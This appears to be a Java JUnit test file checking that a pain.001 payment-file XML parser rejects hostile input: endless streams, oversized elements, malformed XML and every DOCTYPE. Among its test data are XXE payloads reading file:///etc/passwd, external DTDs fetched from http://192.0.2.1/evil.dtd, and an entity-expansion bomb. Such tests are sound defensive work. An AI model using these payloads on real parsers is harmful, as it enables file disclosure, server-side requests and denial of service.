package org.mooring.transformers.pain001;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.mooring.canonical.failure.MessageUnreadable;
import org.mooring.transformers.PaymentFile;

class HostileXmlTest {
    private static final String START = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
            + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.09\"><CstmrCdtTrfInitn><GrpHdr><MsgId>M</MsgId>"
            + "<CreDtTm>2026-11-23T10:00:00Z</CreDtTm><NbOfTxs>1</NbOfTxs><InitgPty><Nm>A</Nm></InitgPty></GrpHdr><PmtInf>"
            + "<PmtInfId>P</PmtInfId><PmtMtd>TRF</PmtMtd>";
    private static final String TRANSACTION = "<CdtTrfTxInf><PmtId><EndToEndId>E</EndToEndId></PmtId>"
            + "<Amt><InstdAmt Ccy=\"EUR\">1.00</InstdAmt></Amt></CdtTrfTxInf>";
    private static final String END = "</PmtInf></CstmrCdtTrfInitn></Document>";
    private static final String DOCUMENT_TYPE_RULE = "a document type (DOCTYPE) is not allowed";

    static Stream<Arguments> endlessMessages() {
        String prolog = "<?xml version=\"1.0\"?>";
        return Stream.of(
                Arguments.of("nesting in a transaction", START + "<CdtTrfTxInf>", "<a>", "depth limit (64)"),
                Arguments.of("nesting from the root", prolog, "<a>", "root must be Document"),
                Arguments.of("nesting of Documents", START, "<PmtInf>", "depth limit (64)"),
                Arguments.of(
                        "name",
                        START + "<CdtTrfTxInf><",
                        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                        "is longer than 1048576 bytes"),
                Arguments.of("comment", START + "<!--", " all is well ", "Text size limit (65536)"),
                Arguments.of("processing instruction", START + "<?x ", " all is well ", "is longer than 1048576 bytes"),
                Arguments.of("blanks", START, "                ", "Text size limit (65536)"),
                Arguments.of(
                        "attribute value",
                        START + "<CdtTrfTxInf a=\"",
                        "aaaaaaaaaaaaaaaaaaa",
                        "attribute size limit (4096)"),
                Arguments.of("attributes", START + "<CdtTrfTxInf ", " a%d=\"\"", "limit (32)"),
                Arguments.of(
                        "text", START + "<CdtTrfTxInf><PmtId><EndToEndId>", "E2E-E2E-E2E-", "Text size limit (65536)"),
                Arguments.of(
                        "CDATA",
                        START + "<CdtTrfTxInf><PmtId><EndToEndId><![CDATA[",
                        "E2E-E2E-E2E-",
                        "Text size limit (65536)"),
                Arguments.of(
                        "texts",
                        START + "<CdtTrfTxInf>",
                        "<a>" + "E2E-".repeat(15_000) + "</a>",
                        "more than 524288 characters"),
                Arguments.of("siblings", START + "<CdtTrfTxInf>", "<a/>", "more than 10000 elements"),
                Arguments.of("head of a payment information", START, "<a/>", "more than 10000 elements"),
                Arguments.of("names", START + "<CdtTrfTxInf>", "<a%d/>", "more than 2000 different names"),
                Arguments.of(
                        "prefixes", START + "<CdtTrfTxInf>", "<x xmlns:a%d=\"u\"/>", "more than 2000 different names"),
                Arguments.of("document type", prolog + "<!DOCTYPE d [", "<!ENTITY a%d \"x\">", DOCUMENT_TYPE_RULE));
    }

    /** Each of these would run to a hundred megabytes; none is read further than three. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("endlessMessages")
    void endlessInputFailsSoon(String what, String start, String repeated, String rule) {
        EndlessStream stream = new EndlessStream(start, repeated, 100_000_000);
        assertThatThrownBy(() -> new Pain001Codec().check(stream))
                .as(what)
                .isInstanceOfSatisfying(MessageUnreadable.class, e -> {
                    assertThat(e.rule()).containsIgnoringCase(rule);
                    assertThat(e.at()).matches("line \\d+, column \\d+");
                });
        assertThat(stream.bytesRead).as("bytes read of %s", what).isLessThan(3_000_000);
    }

    @Test
    void namesOverAWholeFileAreBounded() {
        EndlessStream stream = new EndlessStream(START, TRANSACTION.replace("</PmtId>", "</PmtId><a%d/>"), 100_000_000);
        assertThatThrownBy(() -> new Pain001Codec().check(stream))
                .isInstanceOf(MessageUnreadable.class)
                .hasMessageContaining("more than 2000 different names");
        assertThat(stream.bytesRead).isLessThan(1_000_000);
    }

    @ParameterizedTest
    @MethodSource("documentTypes")
    void refusesEveryDocumentType(String declaration) {
        assertThatThrownBy(() -> read(declaration + START.substring(START.indexOf("<Document")) + TRANSACTION + END))
                .isInstanceOf(MessageUnreadable.class)
                .hasMessageContaining(DOCUMENT_TYPE_RULE)
                .hasMessageContaining("line 1, column");
    }

    static Stream<String> documentTypes() {
        return Stream.of(
                "<!DOCTYPE Document>",
                "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE d SYSTEM \"http://192.0.2.1/evil.dtd\">",
                "<!DOCTYPE d PUBLIC \"p\" \"http://192.0.2.1/evil.dtd\" [<!ENTITY % p SYSTEM \"http://192.0.2.1/\"> %p;]>",
                "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]>");
    }

    @ParameterizedTest
    @MethodSource("malformed")
    void refusesWhatIsNotWellFormed(String xml, String rule) {
        assertThatThrownBy(() -> read(xml))
                .isInstanceOfSatisfying(
                        MessageUnreadable.class, e -> assertThat(e.at()).matches("line \\d+, column \\d+"))
                .hasMessageContaining(rule);
    }

    static Stream<Arguments> malformed() {
        return Stream.of(
                Arguments.of("", "not well-formed XML"),
                Arguments.of("garbage", "not well-formed XML"),
                Arguments.of("\u0000\u0001\u0002", "not well-formed XML"),
                Arguments.of(START + TRANSACTION, "not well-formed XML"),
                Arguments.of(START + TRANSACTION + "</PmtInf></CstmrCdtTrfInitn>", "not well-formed XML"),
                Arguments.of(START + TRANSACTION.replace("</Amt>", "</Amount>") + END, "not well-formed XML"),
                Arguments.of(START + TRANSACTION.replace(">E<", ">&x;<") + END, "not well-formed XML: Undeclared"),
                Arguments.of(START + TRANSACTION.replace(">E<", ">&#0;<") + END, "not well-formed XML"),
                Arguments.of(START + TRANSACTION + END + "<Document/>", "not well-formed XML"),
                Arguments.of(START + "stray" + TRANSACTION + END, "text must not stand between elements"),
                Arguments.of(START + TRANSACTION + "<Dbtr/>" + END, "'Dbtr' must not stand after CdtTrfTxInf"),
                Arguments.of(START + END, "PmtInf[1] has no CdtTrfTxInf"),
                Arguments.of(
                        START.replace("<PmtInf>", "<Else>") + TRANSACTION + END.replace("PmtInf", "Else"),
                        "'Else' must not stand here, PmtInf is due"));
    }

    @Test
    void refusesUtf16ThatCallsItselfUtf8() {
        byte[] bytes = (START + TRANSACTION + END).getBytes(StandardCharsets.UTF_16);
        assertThatThrownBy(() -> new Pain001Codec().check(new ByteArrayInputStream(bytes)))
                .isInstanceOf(MessageUnreadable.class);
    }

    @Test
    void aBrokenStreamIsTheSameForEveryLaterCall() {
        PaymentFile file = new Pain001Codec()
                .open(new ByteArrayInputStream(
                        (START + TRANSACTION + "<CdtTrfTxInf>").getBytes(StandardCharsets.UTF_8)));
        assertThat(file.next().entryIndex()).isEqualTo(1);
        assertThatThrownBy(file::hasNext).isInstanceOf(MessageUnreadable.class);
        assertThatThrownBy(file::next).isInstanceOf(MessageUnreadable.class);
        assertThatThrownBy(file::totals).isInstanceOf(IllegalStateException.class);
    }

    private static PaymentFile.Check read(String xml) {
        return new Pain001Codec().check(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
    }

    /** A start, then the same text again and again, {@code %d} standing for its number. */
    private static final class EndlessStream extends InputStream {
        private final String repeated;
        private final long bytesMax;
        private byte[] chunk;
        private int at;
        private int count;
        private long bytesRead;

        EndlessStream(String start, String repeated, long bytesMax) {
            this.repeated = repeated;
            this.bytesMax = bytesMax;
            this.chunk = start.getBytes(StandardCharsets.UTF_8);
        }

        @Override
        public int read() throws IOException {
            if (bytesRead >= bytesMax) {
                return -1;
            }
            if (at == chunk.length) {
                chunk = repeated.replace("%d", Integer.toString(count++)).getBytes(StandardCharsets.UTF_8);
                at = 0;
            }
            bytesRead++;
            return chunk[at++];
        }
    }
}
